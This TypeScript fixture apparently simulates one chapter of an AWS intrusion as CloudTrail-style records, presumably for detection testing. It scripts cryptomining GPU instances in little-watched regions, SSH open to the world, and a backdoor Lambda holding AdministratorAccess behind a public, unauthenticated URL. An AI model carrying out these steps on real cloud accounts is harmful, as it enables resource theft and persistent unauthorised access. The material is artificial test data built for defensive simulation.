import type { JsonObject } from "../../../shared/event/json.ts";
import { change, iam, look, role } from "../calls.ts";
import { deployAdmin, SHOP, service } from "../cast.ts";
import type { Call, Chapter } from "../record.ts";

const MINING_REGION = "us-west-2";
const FUNCTION_REGION = "eu-central-1";
const FUNCTION_ARN = `arn:aws:lambda:${FUNCTION_REGION}:${SHOP}:function:log-sync`;
const GROUP_ID = "sg-0123456789abcdef0";

function instances(type: string, count: number): JsonObject {
  return {
    instancesSet: {
      items: [{ imageId: "ami-0abcdef1234567890", minCount: count, maxCount: count, keyName: "sync" }],
    },
    groupSet: { items: [{ groupId: GROUP_ID }] },
    userData: "<sensitiveDataRemoved>",
    instanceType: type,
    blockDeviceMapping: {},
    monitoring: { enabled: false },
    disableApiTermination: true,
  };
}

function overTheLimit(after: number, region: string): Call {
  return change(after, deployAdmin, region, "ec2", "RunInstances", {
    request: instances("p4d.24xlarge", 4),
    error: [
      "Client.VcpuLimitExceeded",
      "You have requested more vCPU capacity than your current vCPU limit of 0 allows for the instance bucket that the specified instance type belongs to. Please visit http://aws.amazon.com/contact-us/ec2-request to request an adjustment to this limit.",
    ],
  });
}

const started = ["i-0598c7d356eba48d7", "i-0598c7d356eba48d8", "i-0598c7d356eba48d9"];

/** Machines for mining in regions that nobody looks at, and a function that lets the intruder back in. */
export const compute: Chapter = {
  name: "5-compute",
  begins: "2026-02-11T03:01:22Z",
  calls: [
    look(0, deployAdmin, MINING_REGION, "ec2", "DescribeVpcs", { request: { vpcSet: {}, filterSet: {} } }),
    look(1, deployAdmin, MINING_REGION, "ec2", "DescribeImages", {
      request: {
        executableBySet: {},
        imagesSet: {},
        ownersSet: { items: [{ owner: "amazon" }] },
        filterSet: { items: [{ name: "name", valueSet: { items: [{ value: "Deep Learning*" }] } }] },
      },
    }),
    change(4, deployAdmin, MINING_REGION, "ec2", "CreateKeyPair", {
      request: { keyName: "sync", keyType: "ed25519", keyFormat: "pem" },
      response: {
        requestId: "59dbff89-35bd-4eac-99ed-be587EXAMPLE",
        keyName: "sync",
        keyFingerprint: "1f:51:ae:28:bf:89:e9:d8:1f:25:5d:37:2d:7d:b8:ca:9f:f5:f1:6f",
        keyPairId: "key-0123456789abcdef0",
        keyMaterial: "<sensitiveDataRemoved>",
      },
    }),
    change(3, deployAdmin, MINING_REGION, "ec2", "CreateSecurityGroup", {
      request: { groupName: "sync", groupDescription: "sync", vpcId: "vpc-1a2b3c4d" },
      response: { requestId: "6a214648-9c9d-4f7a-b7c1-9eb2EXAMPLE", _return: true, groupId: GROUP_ID },
    }),
    change(2, deployAdmin, MINING_REGION, "ec2", "AuthorizeSecurityGroupIngress", {
      request: {
        groupId: GROUP_ID,
        ipPermissions: {
          items: [
            {
              ipProtocol: "tcp",
              fromPort: 22,
              toPort: 22,
              groups: {},
              ipRanges: { items: [{ cidrIp: "0.0.0.0/0" }] },
              ipv6Ranges: {},
              prefixListIds: {},
            },
          ],
        },
      },
      response: {
        requestId: "f1b9bf2a-1ef5-4a8a-9f57-d3d9EXAMPLE",
        _return: true,
        securityGroupRuleSet: {
          items: [
            {
              groupOwnerId: SHOP,
              groupId: GROUP_ID,
              securityGroupRuleId: "sgr-0123456789abcdef0",
              isEgress: false,
              ipProtocol: "tcp",
              fromPort: 22,
              toPort: 22,
              cidrIpv4: "0.0.0.0/0",
            },
          ],
        },
      },
    }),
    overTheLimit(8, MINING_REGION),
    overTheLimit(6, "ap-southeast-2"),
    overTheLimit(5, "sa-east-1"),
    change(9, deployAdmin, MINING_REGION, "ec2", "RunInstances", {
      request: instances("g4dn.xlarge", started.length),
      response: {
        requestId: "43e9cb52-0e10-40fe-b457-988cEXAMPLE",
        reservationId: "r-0ea4f1cd2EXAMPLE",
        ownerId: SHOP,
        groupSet: {},
        instancesSet: {
          items: started.map((instanceId, amiLaunchIndex) => ({
            instanceId,
            imageId: "ami-0abcdef1234567890",
            instanceState: { code: 0, name: "pending" },
            amiLaunchIndex,
            instanceType: "g4dn.xlarge",
            placement: { availabilityZone: "us-west-2a", tenancy: "default" },
            keyName: "sync",
          })),
        },
      },
    }),
    look(45, deployAdmin, MINING_REGION, "ec2", "DescribeInstanceStatus", {
      request: {
        instancesSet: { items: started.map((instanceId) => ({ instanceId })) },
        filterSet: {},
        includeAllInstances: true,
      },
    }),
    look(38, service("ec2"), MINING_REGION, "sts", "AssumeRole", {
      request: { roleArn: `arn:aws:iam::${SHOP}:role/shop-web`, roleSessionName: started[0] ?? "" },
      response: {
        credentials: {
          accessKeyId: "ASIAINSTANCEROLEEXAMPLE",
          sessionToken: "EXAMPLE",
          expiration: "Feb 11, 2026, 9:20:14 AM",
        },
      },
      resources: [role(SHOP, "shop-web")],
    }),
    iam(60, deployAdmin, "CreateRole", {
      request: {
        roleName: "log-sync",
        assumeRolePolicyDocument: JSON.stringify({
          Version: "2012-10-17",
          Statement: [
            { Effect: "Allow", Principal: { Service: "lambda.amazonaws.com" }, Action: "sts:AssumeRole" },
          ],
        }),
      },
      response: {
        role: {
          path: "/",
          roleName: "log-sync",
          roleId: "AROALOGSYNCROLEEXAMPLE",
          arn: `arn:aws:iam::${SHOP}:role/log-sync`,
          createDate: "Feb 11, 2026, 3:04:23 AM",
        },
      },
    }),
    iam(2, deployAdmin, "AttachRolePolicy", {
      request: { roleName: "log-sync", policyArn: "arn:aws:iam::aws:policy/AdministratorAccess" },
    }),
    change(4, deployAdmin, FUNCTION_REGION, "lambda", "CreateFunction20150331", {
      request: {
        functionName: "log-sync",
        runtime: "python3.13",
        role: `arn:aws:iam::${SHOP}:role/log-sync`,
        handler: "index.handler",
        code: {},
        timeout: 60,
        memorySize: 128,
        publish: false,
        environment: {},
      },
      error: [
        "InvalidParameterValueException",
        "The role defined for the function cannot be assumed by Lambda.",
      ],
    }),
    change(11, deployAdmin, FUNCTION_REGION, "lambda", "CreateFunction20150331", {
      request: {
        functionName: "log-sync",
        runtime: "python3.13",
        role: `arn:aws:iam::${SHOP}:role/log-sync`,
        handler: "index.handler",
        code: {},
        timeout: 60,
        memorySize: 128,
        publish: false,
        environment: {},
      },
      response: {
        functionName: "log-sync",
        functionArn: FUNCTION_ARN,
        runtime: "python3.13",
        role: `arn:aws:iam::${SHOP}:role/log-sync`,
        handler: "index.handler",
        codeSize: 902,
        version: "$LATEST",
        state: "Pending",
        stateReasonCode: "Creating",
        packageType: "Zip",
        architectures: ["x86_64"],
      },
    }),
    change(5, deployAdmin, FUNCTION_REGION, "lambda", "CreateFunctionUrlConfig", {
      request: { functionName: "log-sync", authType: "NONE" },
      response: {
        functionUrl: "https://abcdefghijklmnopqrstuvwxyz012345.lambda-url.eu-central-1.on.aws/",
        functionArn: FUNCTION_ARN,
        authType: "NONE",
        creationTime: "2026-02-11T03:04:45.112Z",
        invokeMode: "BUFFERED",
      },
    }),
    change(1, deployAdmin, FUNCTION_REGION, "lambda", "AddPermission20150331v2", {
      request: {
        functionName: "log-sync",
        statementId: "anyone",
        action: "lambda:InvokeFunctionUrl",
        principal: "*",
        functionUrlAuthType: "NONE",
      },
      response: {
        statement: JSON.stringify({
          Sid: "anyone",
          Effect: "Allow",
          Principal: "*",
          Action: "lambda:InvokeFunctionUrl",
          Resource: FUNCTION_ARN,
          Condition: { StringEquals: { "lambda:FunctionUrlAuthType": "NONE" } },
        }),
      },
    }),
  ],
};
